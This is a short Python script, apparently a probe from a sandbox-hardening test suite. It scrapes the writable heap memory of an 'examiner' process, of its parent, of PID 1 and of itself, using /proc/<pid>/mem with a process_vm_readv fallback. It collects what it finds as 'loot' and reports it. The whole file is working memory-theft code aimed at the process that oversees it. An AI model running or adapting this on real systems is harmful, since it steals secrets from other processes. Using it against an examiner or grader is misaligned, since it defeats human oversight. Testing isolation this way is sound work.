"""Reads the memory of the examiner, of its own ancestors and of itself, by /proc and by process_vm_readv."""

# control: T0
import ctypes
import os
import time

from toolkit import TARGETS, marks, tell

END = time.monotonic() + 1.2
libc = ctypes.CDLL(None, use_errno=True)


class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]  # noqa: RUF012


def areas(pid):
    try:
        with open(f"/proc/{pid}/maps") as maps:
            lines = [line.split() for line in maps]
    except OSError:
        return []
    found = []
    for line in lines:
        if line[1].startswith("rw") and (len(line) < 6 or line[5] == "[heap]"):
            start, end = (int(part, 16) for part in line[0].split("-"))
            found.append((start, min(end - start, 8 << 20)))
    return found


def scan(pid):
    loot = []
    for start, length in areas(pid):
        if time.monotonic() > END:
            break
        try:
            with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                memory.seek(start)
                loot += marks(memory.read(length))
        except (OSError, ValueError):
            buffer = ctypes.create_string_buffer(length)
            here = Span(ctypes.addressof(buffer), length)
            there = Span(start, length)
            if libc.process_vm_readv(int(pid), ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
                loot += marks(buffer.raw)
    return loot


loot = []
for pid in (TARGETS["examiner"], os.getppid(), 1, os.getpid()):
    loot += scan(pid)
tell(globals(), sorted(set(loot)))
